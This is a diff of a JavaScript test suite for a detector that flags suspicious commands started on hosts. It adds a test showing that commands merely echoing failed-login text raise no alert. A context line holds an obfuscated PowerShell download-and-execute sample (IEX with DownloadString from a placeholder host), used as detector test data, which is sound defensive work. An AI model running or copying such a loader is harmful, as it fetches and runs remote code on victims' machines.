@@ -56,6 +56,13 @@ describe('what is started on hosts', () => {
     deepEqual(found?.suspects, ['203.0.113.5']);
   });
 
+  it('words of a log-in in a command are none', async () => {
+    const tests = steps(12).map(index =>
+      command(`check.exe --say "authentication failed for root from 203.0.113.${index}"`),
+    );
+    deepEqual(await levels(tests), []);
+  });
+
   it('tricks of writing hide nothing', async () => {
     const [found = ''] = await levels([
       command("cmd /c p^owershell I`EX (x).('Down'+'loadString')('https://e.example/x')"),
